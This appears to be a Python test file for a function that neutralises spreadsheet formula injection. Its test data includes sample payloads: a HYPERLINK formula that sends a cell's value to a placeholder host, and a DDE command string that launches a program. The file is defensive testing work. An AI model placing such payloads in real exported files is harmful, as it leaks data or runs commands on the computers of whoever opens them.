from fazhi.lib.spreadsheets import inert


def test_text_that_excel_would_run_stays_text():
    assert inert('=HYPERLINK("http://x?"&A2,"详情")') == '\'=HYPERLINK("http://x?"&A2,"详情")'
    assert inert("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"
    assert inert("@SUM(A1)") == "'@SUM(A1)"
    assert inert("-1+1") == "'-1+1"


def test_ordinary_values_are_unchanged():
    assert inert("学习宪法") == "学习宪法"
    assert inert(-3) == -3
    assert inert(None) is None
